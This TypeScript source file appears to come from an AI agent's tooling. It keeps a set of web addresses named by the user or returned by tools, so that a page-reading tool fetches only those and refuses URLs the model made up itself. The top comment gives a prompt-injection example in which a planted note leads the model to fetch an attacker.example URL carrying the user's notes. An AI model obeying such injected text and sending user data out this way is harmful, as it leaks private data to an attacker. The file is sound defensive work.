/**
 * The web addresses an agent run has seen named by someone other than the model: the user's
 * messages, the notes and pages attached, and what tools returned (a note read, a page read,
 * search results). readWebPage reads only those, so a note or page that talks the model into
 * "fetch https://attacker.example/?data=<the user's notes>" gets nothing: that URL, made up with
 * the data in it, was written by no one but the model.
 *
 * A tool result may echo what the model sent (a search query, a path in an error): an address
 * the model wrote before a tool gave it back does not count as named by the tool.
 */
export class NamedUrls {
  private readonly named = new Set<string>();
  private readonly written = new Set<string>();

  /** Text the user wrote or attached (the question, notes, pages, the instructions). */
  addNamed(text: string): void {
    for (const url of urlsIn(text)) this.named.add(url);
  }

  /** Text the model wrote: its answers, and the arguments of its tool calls. */
  addWritten(text: string): void {
    for (const url of urlsIn(text)) if (!this.named.has(url)) this.written.add(url);
  }

  /** A tool's result: its addresses count, but those the model wrote first. */
  addResult(text: string): void {
    for (const url of urlsIn(text)) if (!this.written.has(url)) this.named.add(url);
  }

  has(url: string): boolean {
    const normalized = normalizeUrl(url);
    return normalized !== null && this.named.has(normalized);
  }
}

/** http(s) addresses up to a space, a quote, a bracket or a tag; Markdown's "(" ")" end one too. */
const URL_IN_TEXT = /https?:\/\/[^\s<>"'`[\]{}()|\\^]+/gi;

/** Every http(s) address in a text, normalized (see normalizeUrl). Escaped text (`&amp;`) is read as written. */
export function urlsIn(text: string): string[] {
  const found: string[] = [];
  for (const match of text.matchAll(URL_IN_TEXT)) {
    const normalized = normalizeUrl(match[0].replace(/[.,;:!?*_~]+$/, "").replace(/&amp;/g, "&"));
    if (normalized !== null) found.push(normalized);
  }
  return found;
}

/** The address as the URL parser writes it, without its fragment (the same page); null when it is none. */
export function normalizeUrl(url: string): string | null {
  try {
    const parsed = new URL(url.trim());
    if (parsed.protocol !== "http:" && parsed.protocol !== "https:") return null;
    parsed.hash = "";
    return parsed.href;
  } catch {
    return null;
  }
}
